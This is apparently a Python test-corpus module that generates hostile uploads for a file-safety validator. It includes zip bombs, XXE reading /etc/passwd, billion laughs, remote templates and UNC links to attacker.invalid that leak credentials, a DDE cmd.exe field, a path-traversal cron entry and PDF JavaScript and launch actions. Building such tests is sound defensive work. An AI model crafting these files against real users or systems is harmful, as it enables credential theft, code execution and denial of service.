"""The hostile upload corpus, generated here so the repository holds no live samples.

Each ``Sample`` builds its file in memory and says what it pretends to be and the message a
person sees when a point that takes that kind of file refuses it. ``tests/security/test_corpus.py``
pushes every sample through every upload point; ``cspr.ui`` bench times them the same way.
"""

from __future__ import annotations

import functools
import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from docx import Document

from cspr.filesafety import errors


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]
    kind: str  # what it looks like: "docx", "xlsx", "pdf", "image" or "other"
    message: str  # (part of) the refusal where this kind of file is taken


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# ---------------------------------------------------------------- Office files


@functools.cache
def plain_docx() -> bytes:
    doc = Document()
    doc.add_paragraph("A harmless, fictional document.")
    buffer = io.BytesIO()
    doc.save(buffer)
    return buffer.getvalue()


@functools.cache
def plain_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Date", "Key Event/Action Undertaken"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """Copy a zip, replacing or adding entries."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _part(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def _add_relationship(data: bytes, rels: str, relationship: str) -> dict[str, bytes]:
    current = _part(data, rels)
    return {rels: current.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")}


def _document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}</w:body></w:document>'
    ).encode()


def zip_bomb() -> bytes:
    """A Word-looking file with one entry that inflates about a thousand times."""
    return rewrite(plain_docx(), add={"word/media/padding.bin": b"\0" * (8 * 1024 * 1024)})


@functools.cache
def zip_bomb_spread() -> bytes:
    """Seventy entries just under a megabyte each: no single entry looks like a bomb, together 70 MB."""
    zeros = b"\0" * 999_999
    return rewrite(plain_docx(), add={f"customXml/padding{i}.bin": zeros for i in range(70)})


def xxe() -> bytes:
    evil = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    )
    return rewrite(plain_docx(), replace={"word/document.xml": evil})


def billion_laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    evil = (
        f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "lol">{entities}]>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&l9;</t></si></sst>'
    ).encode()
    return rewrite(plain_xlsx(), add={"xl/sharedStrings.xml": evil})


def macro_workbook() -> bytes:
    data = plain_xlsx()
    types = _part(data, "[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    return rewrite(data, replace={"[Content_Types].xml": types}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})


def macro_renamed() -> bytes:
    """Macros under an innocent part name, found by their relationship type."""
    data = plain_docx()
    rel = '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/notes.dat"/>'
    return rewrite(
        data,
        replace=_add_relationship(data, "word/_rels/document.xml.rels", rel),
        add={"word/media/notes.dat": b"\xd0\xcf\x11\xe0macro"},
    )


def template(target: str) -> bytes:
    """A document based on the template at ``target`` (Word fetches it when the file opens)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return rewrite(plain_docx(), add={"word/_rels/settings.xml.rels": rels.encode()})


def remote_template() -> bytes:
    return template("http://attacker.invalid/template.dotm")


def share_template() -> bytes:
    """A template on a network share: opening the file sends the reader's Windows credentials there."""
    return template("\\\\attacker.invalid\\share\\template.dotm")


def external_picture() -> bytes:
    """An image fetched from another computer when the file opens (a tracking or NTLM-leak link)."""
    data = plain_docx()
    rel = f'<Relationship Id="rId98" Type="{REL}/image" Target="\\\\attacker.invalid\\share\\a.png" TargetMode="External"/>'
    return rewrite(data, replace=_add_relationship(data, "word/_rels/document.xml.rels", rel))


def embedded_ole() -> bytes:
    data = plain_docx()
    rel = f'<Relationship Id="rId97" Type="{REL}/oleObject" Target="embeddings/oleObject1.bin"/>'
    return rewrite(
        data,
        replace=_add_relationship(data, "word/_rels/document.xml.rels", rel),
        add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"MZ\x90\x00" + b"\0" * 64},
    )


def embedded_ole_renamed() -> bytes:
    """An executable package under a picture's name, found by its relationship type."""
    data = plain_docx()
    rel = f'<Relationship Id="rId96" Type="{REL}/package" Target="media/image9.png"/>'
    return rewrite(
        data,
        replace=_add_relationship(data, "word/_rels/document.xml.rels", rel),
        add={"word/media/image9.png": b"MZ\x90\x00This program cannot be run in DOS mode."},
    )


def activex() -> bytes:
    return rewrite(plain_docx(), add={"word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="x"/>'})


def dde_field() -> bytes:
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText>'
        '</w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Click</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rewrite(plain_docx(), replace={"word/document.xml": _document(body)})


def linked_workbook() -> bytes:
    data = plain_xlsx()
    rel = f'<Relationship Id="rId95" Type="{REL}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    link = (
        b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<externalBook/></externalLink>"
    )
    return rewrite(
        data,
        replace=_add_relationship(data, "xl/_rels/workbook.xml.rels", rel),
        add={"xl/externalLinks/externalLink1.xml": link},
    )


def path_traversal() -> bytes:
    return rewrite(plain_docx(), add={"../../../etc/cron.d/evil": b"* * * * * root reboot\n"})


def truncated_docx() -> bytes:
    data = plain_docx()
    return data[: len(data) // 2]


def damaged_deflate() -> bytes:
    """A Word file whose styles part's compressed data is corrupt: the decompressor fails mid-part."""
    data = bytearray(plain_docx())
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/styles.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 200, start + 260):
        data[offset] = 0xFF
    return bytes(data)


def merged_cell_bomb() -> bytes:
    """A table whose cells are vertically merged down 800 rows: python-docx's ``row.cells`` is quadratic here."""
    columns, rows = 10, 800
    first = "".join(
        f'<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>C{c}</w:t></w:r></w:p></w:tc>'
        for c in range(columns)
    )
    rest = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * columns
    grid = "<w:tblGrid>" + '<w:gridCol w:w="900"/>' * columns + "</w:tblGrid>"
    table = f"<w:tbl>{grid}<w:tr>{first}</w:tr>" + f"<w:tr>{rest}</w:tr>" * (rows - 1) + "</w:tbl>"
    return rewrite(plain_docx(), replace={"word/document.xml": _document(table + "<w:p/>")})


def merged_cell_return(rows: int = 300, columns: int = 4) -> bytes:
    """Within the bounds, but a worker spent 43 s on the 300-row version: read in one pass now."""
    first = "".join(
        f'<w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p><w:r><w:t>C{c}</w:t></w:r></w:p></w:tc>'
        for c in range(columns)
    )
    rest = "<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>" * columns
    grid = "<w:tblGrid>" + '<w:gridCol w:w="900"/>' * columns + "</w:tblGrid>"
    table = f"<w:tbl>{grid}<w:tr>{first}</w:tr>" + f"<w:tr>{rest}</w:tr>" * (rows - 1) + "</w:tbl>"
    return rewrite(plain_docx(), replace={"word/document.xml": _document(table + "<w:p/>")})


@functools.cache
def many_sheet_workbook(sheets: int = 68, rows: int = 4999) -> bytes:
    """68 sheets of 4,999 rows (a 3.9 MB workbook kept a worker busy for 178 s)."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    out = io.BytesIO()
    sheet_rows = "".join(
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>01/0{1 + r % 9}/2019</t></is></c>'
        f'<c r="B{r}" t="inlineStr"><is><t>Event {r}</t></is></c></row>'
        for r in range(1, rows + 1)
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{ns}"><sheetData>{sheet_rows}</sheetData></worksheet>'
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, sheets + 1)
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        f"{overrides}</Types>"
    )
    book = (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{ns}" xmlns:r="{R_NS}"><sheets>'
        + "".join(f'<sheet name="Sheet{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, sheets + 1))
        + "</sheets></workbook>"
    )
    book_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{REL}/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, sheets + 1)
        )
        + "</Relationships>"
    )
    root_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", root_rels)
        archive.writestr("xl/workbook.xml", book)
        archive.writestr("xl/_rels/workbook.xml.rels", book_rels)
        for i in range(1, sheets + 1):
            archive.writestr(f"xl/worksheets/sheet{i}.xml", sheet)
    return out.getvalue()


def long_sheet() -> bytes:
    """One sheet far longer than any chronology: refused on its row count, before openpyxl."""
    data = many_sheet_workbook(1, 30_000)
    return data


# ---------------------------------------------------------------- PDFs


def build_pdf(objects: dict[int, bytes], *, packed: dict[int, bytes] | None = None, trailer: bytes = b"") -> bytes:
    """A PDF from numbered object bodies; ``packed`` objects go into a compressed object stream
    (with a cross-reference stream), where no text search of the file can see them."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    if not packed:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, xref)
        return bytes(out)
    stream_number = max([*objects, *packed]) + 1
    header = b""
    bodies = b""
    for number, body in sorted(packed.items()):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    content = zlib.compress(header + bodies)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(packed), len(header), len(content))
        + content
        + b"\nendstream\nendobj\n"
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    size = xref_number + 1
    rows = bytearray()
    packed_index = {number: i for i, number in enumerate(sorted(packed))}
    for number in range(size):
        if number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif number in packed_index:
            rows += bytes([2]) + stream_number.to_bytes(4, "big") + packed_index[number].to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d %s>>\nstream\n"
        % (xref_number, size, len(rows), trailer)
        + bytes(rows)
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def plain_pdf() -> bytes:
    return build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PAGES})


def pdf_js_escaped_name() -> bytes:
    """``/S /J#61vaScript``: the name is /JavaScript once its #xx escapes are decoded."""
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            **PAGES,
            4: b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        }
    )


def pdf_js_hex() -> bytes:
    """``/JS <hex>``, run when the page opens (an /AA additional action)."""
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: PAGES[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>",
            4: b"<< /S /JavaScript /JS<6170702e616c657274283129> >>",
        }
    )


def pdf_open_uri() -> bytes:
    """A web address opened as soon as the file is (tracking, or a phishing page)."""
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://attacker.invalid/) >> >>",
            **PAGES,
        }
    )


def pdf_js_in_object_stream() -> bytes:
    """The JavaScript action inside a compressed object stream: invisible to any search of the bytes."""
    return build_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", **PAGES},
        packed={4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
    )


def pdf_launch() -> bytes:
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: PAGES[2],
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>",
        }
    )


def pdf_embedded_file() -> bytes:
    return build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(notes.exe) 4 0 R] >> >> >>",
            **PAGES,
            4: b"<< /Type /Filespec /F (notes.exe) /EF << /F 5 0 R >> >>",
            5: b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
        }
    )


def pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain_pdf())))
    writer.encrypt(user_password="fictional", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = plain_pdf()
    return data[: len(data) // 2]


# ---------------------------------------------------------------- other things pretending


def mislabelled_executable() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200 + b"This program cannot be run"


def encrypted_office() -> bytes:
    """Password-protected Office files are OLE compound files, whatever their extension."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024 + "EncryptedPackage".encode("utf-16-le")


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>document.location='http://attacker.invalid/'</script></body></html>"


def png_header_then_html() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + html_page()


def png_then_html() -> bytes:
    """A PNG that decodes, with an HTML page after its end: a browser sniffing it may run the page."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (2, 2), (255, 255, 255)).save(out, format="PNG")
    return out.getvalue() + html_page()


def empty() -> bytes:
    return b""


MACROS = "contains macros"
TOO_BIG = "expands to too much data"
XML = "content that cannot be accepted"
SAMPLES = [
    Sample("zip bomb", zip_bomb, "docx", TOO_BIG),
    Sample("zip bomb spread over many entries", zip_bomb_spread, "docx", TOO_BIG),
    Sample("XML external entity", xxe, "docx", XML),
    Sample("billion laughs", billion_laughs, "xlsx", XML),
    Sample("macro workbook", macro_workbook, "xlsx", MACROS),
    Sample("macro under another name", macro_renamed, "docx", MACROS),
    Sample("ActiveX control", activex, "docx", MACROS),
    Sample("remote template", remote_template, "docx", errors.EXTERNAL_LINK),
    Sample("template on a network share", share_template, "docx", errors.EXTERNAL_LINK),
    Sample("picture from another computer", external_picture, "docx", errors.EXTERNAL_LINK),
    Sample("DDE field", dde_field, "docx", errors.EXTERNAL_LINK),
    Sample("linked workbook", linked_workbook, "xlsx", errors.EXTERNAL_LINK),
    Sample("embedded OLE object", embedded_ole, "docx", errors.EMBEDDED_OBJECT),
    Sample("embedded package named as a picture", embedded_ole_renamed, "docx", errors.EMBEDDED_OBJECT),
    Sample("path traversal", path_traversal, "docx", "must be a"),
    Sample("truncated Word file", truncated_docx, "docx", "must be a"),
    Sample("damaged compressed part", damaged_deflate, "docx", "must be a"),
    Sample("merged-cell bomb", merged_cell_bomb, "docx", "too many merged cells"),
    Sample("many-sheet workbook", many_sheet_workbook, "xlsx", "sheets. Split it into smaller files"),
    Sample("very long sheet", long_sheet, "xlsx", "too many rows"),
    Sample("PDF JavaScript, escaped name", pdf_js_escaped_name, "pdf", errors.PDF_ACTIVE),
    Sample("PDF JavaScript, hex string", pdf_js_hex, "pdf", errors.PDF_ACTIVE),
    Sample("PDF web address on opening", pdf_open_uri, "pdf", errors.PDF_ACTIVE),
    Sample("PDF JavaScript in an object stream", pdf_js_in_object_stream, "pdf", errors.PDF_ACTIVE),
    Sample("PDF launch action", pdf_launch, "pdf", errors.PDF_ACTIVE),
    Sample("PDF embedded file", pdf_embedded_file, "pdf", errors.PDF_ACTIVE),
    Sample("PDF encrypted", pdf_encrypted, "pdf", "password-protected"),
    Sample("truncated PDF", truncated_pdf, "pdf", "could not be read as a PDF"),
    Sample("encrypted Office file", encrypted_office, "other", "password-protected"),
    Sample("mislabelled executable", mislabelled_executable, "other", "must be a"),
    Sample("HTML page", html_page, "other", "must be a"),
    Sample("PNG header then HTML", png_header_then_html, "image", "must be a"),
    Sample("PNG with HTML after its end", png_then_html, "image", "must be a"),
    Sample("empty file", empty, "other", "empty"),
]
